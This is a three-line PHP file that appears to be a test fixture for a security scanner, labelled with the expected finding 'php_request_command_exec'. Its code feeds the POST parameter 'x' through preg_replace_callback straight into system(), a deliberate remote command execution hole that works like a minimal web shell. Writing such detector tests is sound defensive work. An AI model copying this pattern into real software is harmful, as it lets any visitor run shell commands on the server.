<?php
// want: php_request_command_exec
preg_replace_callback('/.+/', function ($m) { return system($m[0]); }, $_POST['x']);
